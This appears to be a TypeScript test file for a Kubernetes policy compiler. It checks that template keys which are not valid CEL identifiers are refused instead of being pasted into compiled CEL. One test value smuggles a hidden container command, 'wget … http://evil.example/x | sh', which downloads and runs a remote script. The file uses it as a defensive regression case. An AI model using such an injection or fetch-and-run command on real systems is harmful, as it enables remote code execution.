// Object keys of a template reach the compiled CEL as field names of typed object literals
// (`Object.spec.containers{name: …}`), where CEL has no quoting: a key that is not a CEL
// identifier must be refused, never pasted. Reproduced before the fix: a key holding
// `command: [...], stdin` compiled into a hidden command, and `my-field` into CEL that does not
// parse, with exit 0. Every expression the compiler writes is parsed again before it is printed.
import t from 'tap';
import { run } from '../../src/cli/policy.js';
import type { Io } from '../../src/cli/common.js';
import { compileTemplate } from '../../src/policy/index.js';
import { parseTemplates } from '../../src/catalog/index.js';
import { parseProblem } from '../../src/policy/reparse.js';
import { testCatalog } from '../helpers/catalog.js';

function capture(stdin: string): Io & { out: () => string; err: () => string } {
  let out = '';
  let err = '';
  return { stdout: (s) => void (out += s), stderr: (s) => void (err += s), readStdin: () => stdin, out: () => out, err: () => err };
}

const HIDDEN = 'command: ["sh", "-c", "wget -q -O- http://evil.example/x | sh"], stdin';

function templateYaml(key: string, where: 'container' | 'volume' | 'env' = 'container'): string {
  const container =
    where === 'container'
      ? { name: 'agent', image: 'example.org/agent:1', args: ['run'], [key]: true }
      : { name: 'agent', image: 'example.org/agent:1', args: ['run'] };
  const spec: Record<string, unknown> = { pattern: 'sidecar', description: 'A template with an odd key.', containers: [container] };
  if (where === 'volume') spec['volumes'] = [{ name: 'data', emptyDir: { [key]: 'x' } }];
  if (where === 'env') spec['app'] = { env: [{ name: 'A', value: 'b', [key]: 'c' }] };
  return JSON.stringify({ apiVersion: 'podpattern.dev/v1alpha1', kind: 'PatternTemplate', metadata: { name: 'odd' }, spec });
}

for (const [label, key, where] of [
  ['a key that hides a command', HIDDEN, 'container'],
  ['a key with a dash', 'my-field', 'container'],
  ['a key that hides a command in a volume', HIDDEN, 'volume'],
  ['a key with a dash in the app wiring', 'value-from', 'env'],
  ['a CEL reserved word', 'in', 'container'],
] as const) {
  t.test(`podpattern policy refuses ${label}, with exit 1 and nothing on stdout`, async (t) => {
    const text = templateYaml(key, where);
    const parsed = parseTemplates(text, 'file:odd.yaml');
    t.equal(parsed.templates.length, 1, 'the catalog takes the template (the webhook renders the key as data)');
    const io = capture(text);
    t.equal(await run(['-f', '-'], io), 1, 'exit 1');
    t.equal(io.out(), '', 'nothing on stdout');
    t.match(io.err(), /odd: .*is not a CEL identifier/, io.err());
    t.notMatch(io.out() + io.err(), /wget -q -O- http:\/\/evil\.example\/x \| sh"\]/, 'the hidden command is never printed as CEL');
  });
}

t.test('every expression of every built-in policy parses', async (t) => {
  let count = 0;
  for (const template of testCatalog()
    .list()
    .filter((x) => x.source === 'builtin')) {
    const compiled = compileTemplate(template, { ownNamespace: 'podpattern' });
    if (!compiled.ok) {
      t.fail(`${template.name}: ${compiled.problems.join('; ')}`);
      continue;
    }
    for (const expression of expressionsOf(compiled.objects)) {
      count += 1;
      t.equal(parseProblem(expression), undefined, `${template.name}: ${expression.slice(0, 60)}`);
    }
  }
  t.ok(count > 50, `${count} expressions`);
});

t.test('the read-back refuses what is not CEL, typed object literals included', async (t) => {
  t.equal(
    parseProblem('Object.spec{containers: [Object.spec.containers{name: "a", args: ["x"]}]}'),
    undefined,
    'typed literals as the compiler writes them',
  );
  t.equal(parseProblem('JSONPatch{op: "add", path: "/spec/x", value: {"k": Object.a{}}}'), undefined, 'an empty one in a map');
  for (const bad of [
    'Object.spec.containers{my-field: true}',
    'Object{"name": 1}',
    'Object{a: 1, b-c: 2}',
    '"open',
    'a ? b',
    'Object{in: 1}.x +',
  ]) {
    t.not(parseProblem(bad), undefined, bad);
  }
});

/** Every CEL expression in the objects: any string under a key named expression or messageExpression. */
function expressionsOf(value: unknown, found: string[] = []): string[] {
  if (Array.isArray(value)) for (const item of value) expressionsOf(item, found);
  else if (value !== null && typeof value === 'object') {
    for (const [key, item] of Object.entries(value)) {
      if ((key === 'expression' || key === 'messageExpression') && typeof item === 'string') found.push(item);
      else expressionsOf(item, found);
    }
  }
  return found;
}

t.test('a capability set by a parameter is refused: the status records the privileges given by name', async (t) => {
  const text = JSON.stringify({
    apiVersion: 'podpattern.dev/v1alpha1',
    kind: 'PatternTemplate',
    metadata: { name: 'capable' },
    spec: {
      pattern: 'sidecar',
      description: 'd',
      parameters: { cap: { type: 'string', enum: ['NET_BIND_SERVICE'] } },
      containers: [{ name: 'capable', image: 'example.org/c:1', securityContext: { capabilities: { add: ['$(params.cap)'] } } }],
    },
  });
  const io = capture(text);
  t.equal(await run(['-f', '-'], io), 1);
  t.match(io.err(), /capable: containers 'capable': a capability set by a parameter cannot be compiled/);
});
